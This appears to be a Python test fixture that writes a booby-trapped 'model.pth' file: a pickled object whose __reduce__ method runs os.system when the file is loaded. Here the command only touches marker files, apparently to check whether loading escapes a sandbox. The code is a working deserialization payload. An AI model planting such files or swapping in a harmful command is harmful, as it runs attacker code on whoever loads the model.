import pickle


class Bomb:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def make(place, places):
    (place / "model.pth").write_bytes(pickle.dumps(Bomb(f"touch {places['OUTSIDE']}/{places['MARK']} /tmp/{places['MARK']}")))
